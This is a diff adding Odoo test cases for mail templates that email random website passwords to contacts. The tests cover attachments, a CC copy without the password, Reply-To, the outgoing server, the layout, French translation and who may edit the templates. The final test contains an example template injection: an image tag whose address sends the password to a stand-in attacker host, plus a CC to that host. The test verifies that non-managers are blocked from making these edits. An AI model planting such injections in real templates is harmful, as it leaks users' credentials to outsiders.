@@ -1,0 +1,153 @@
+# License LGPL-3.0 or later (https://www.gnu.org/licenses/lgpl).
+"""The two mail templates are used in full, as an administrator sets them up in
+Settings > Technical > Email Templates; and only managers may change them."""
+
+from aiosmtpd.controller import Controller
+
+from odoo.exceptions import AccessError
+from odoo.tests import HttpCase, tagged
+from odoo.tools import mute_logger
+
+from .common import (
+    RecordingHandler,
+    WebsiteLoginCase,
+    free_port,
+    message_html,
+    password_from,
+    smtp_server,
+)
+
+FRENCH_BODY = """<div>
+<p>Bonjour <t t-out="object.name or ''">Jeanne</t>,</p>
+<ul>
+  <li>Identifiant : <strong t-out="object.username or ''">jeanne</strong></li>
+  <li>Temporary password:
+    <strong t-out="ctx.get('website_password') or ''">x</strong></li>
+</ul>
+</div>"""
+
+
+@tagged("post_install", "-at_install")
+class TestMailTemplate(WebsiteLoginCase, HttpCase):
+    @classmethod
+    def setUpClass(cls):
+        super().setUpClass()
+        cls.setup_website_login()
+        cls.jane = cls.make_contact()
+        cls.template = cls.env.ref(
+            "partner_website_login.mail_template_random_password"
+        )
+
+    def send_random_password_mail(self, partner=None):
+        partner = partner or self.jane
+        action = partner.with_user(self.manager).action_random_password_mail()
+        self.env["random.password.mail"].with_user(self.manager).browse(
+            action["res_id"]
+        ).action_send()
+
+    def only_message_to(self, smtp, address):
+        [message] = [m for m in smtp.messages if address in m["To"]]
+        return message
+
+    def test_attachments_of_the_template_are_attached(self):
+        self.template.attachment_ids = self.env["ir.attachment"].create(
+            {
+                "name": "portal-guide.txt",
+                "raw": b"How to use our portal",
+                "mimetype": "text/plain",
+            }
+        )
+        with smtp_server(self.env) as smtp:
+            self.send_random_password_mail()
+        [attachment] = list(smtp.messages[0].iter_attachments())
+        self.assertEqual(attachment.get_filename(), "portal-guide.txt")
+        self.assertEqual(attachment.get_content(), "How to use our portal")
+        self.assertTrue(password_from(smtp.messages[0]))
+
+    def test_cc_gets_a_copy_without_the_password(self):
+        self.template.email_cc = "account.manager@ourcompany.test"
+        with smtp_server(self.env) as smtp:
+            self.send_random_password_mail()
+        own = self.only_message_to(smtp, "jane.doe@retailer.test")
+        copy = self.only_message_to(smtp, "account.manager@ourcompany.test")
+        password = password_from(own)
+        self.assertTrue(password)
+        self.assertNotIn("account.manager", own["To"] + str(own["Cc"] or ""))
+        self.assertNotIn(password, copy.as_string())
+        self.assertIn("sent to Jane Doe only", message_html(copy))
+        self.assertTrue(self.authenticates("jane.doe", password))
+
+    def test_reply_to_of_the_template(self):
+        self.template.reply_to = "help@ourcompany.test"
+        with smtp_server(self.env) as smtp:
+            self.send_random_password_mail()
+        self.assertEqual(smtp.messages[0]["Reply-To"], "help@ourcompany.test")
+
+    def test_outgoing_mail_server_of_the_template(self):
+        other_handler = RecordingHandler()
+        other_port = free_port()
+        other = Controller(other_handler, hostname="127.0.0.1", port=other_port)
+        other.start()
+        self.addCleanup(other.stop)
+        with smtp_server(self.env) as smtp:
+            self.template.mail_server_id = self.env["ir.mail_server"].create(
+                {
+                    "name": "Portal mail server",
+                    "smtp_host": "127.0.0.1",
+                    "smtp_port": other_port,
+                    "smtp_encryption": "none",
+                    "sequence": 99,  # not the one Odoo would pick by itself
+                }
+            )
+            self.send_random_password_mail()
+        self.assertFalse(smtp.messages)
+        [message] = other_handler.messages
+        self.assertTrue(self.authenticates("jane.doe", password_from(message)))
+
+    def test_the_company_layout_wraps_the_mail(self):
+        self.template.email_layout_xmlid = "mail.mail_notification_light"
+        self.env.company.name = "Layout Test Company"
+        with smtp_server(self.env) as smtp:
+            self.send_random_password_mail()
+        html = message_html(smtp.messages[0])
+        self.assertIn("Powered by", html)  # the light layout's footer
+        self.assertIn("Layout Test Company", html)
+        self.assertTrue(self.authenticates("jane.doe", password_from(smtp.messages[0])))
+
+    @mute_logger("odoo.addons.base.models.res_lang")
+    def test_a_french_contact_gets_the_french_mail(self):
+        self.env["res.lang"]._activate_lang("fr_FR")
+        french = self.template.with_context(lang="fr_FR")
+        french.subject = "Votre accès au site"
+        french.body_html = FRENCH_BODY
+        pierre = self.make_contact(name="Pierre", username="pierre", lang="fr_FR")
+        with smtp_server(self.env) as smtp:
+            self.send_random_password_mail(pierre)
+            self.send_random_password_mail(self.jane)  # English, as before
+        to_pierre = self.only_message_to(smtp, "pierre@retailer.test")
+        self.assertEqual(to_pierre["Subject"], "Votre accès au site")
+        self.assertIn("Bonjour Pierre", message_html(to_pierre))
+        self.assertTrue(self.authenticates("pierre", password_from(to_pierre)))
+        to_jane = self.only_message_to(smtp, "jane.doe@retailer.test")
+        self.assertIn("Your website login", to_jane["Subject"])
+
+    def test_only_managers_may_change_the_templates(self):
+        # a Mail Template Editor edits Odoo's other templates, as Odoo lets them
+        self.clerk.groups_id += self.env.ref("mail.group_mail_template_editor")
+        other = self.env.ref("auth_signup.mail_template_user_signup_account_created")
+        other.with_user(self.clerk).reply_to = "clerk@ourcompany.test"
+        as_clerk = self.template.with_user(self.clerk)
+        with self.assertRaises(AccessError):
+            # e.g. an image whose address would carry the password away
+            as_clerk.body_html = (
+                "<img t-att-src=\"'https://evil.test/?p=' + "
+                "ctx.get('website_password')\"/>"
+            )
+        with self.assertRaises(AccessError):
+            as_clerk.email_cc = "me@evil.test"
+        with self.assertRaises(AccessError):
+            as_clerk.unlink()
+        # a manager who is also a Mail Template Editor (administrators are both)
+        self.manager.groups_id += self.env.ref("mail.group_mail_template_editor")
+        self.template.with_user(self.manager).reply_to = "help@ourcompany.test"
+        self.assertEqual(self.template.reply_to, "help@ourcompany.test")
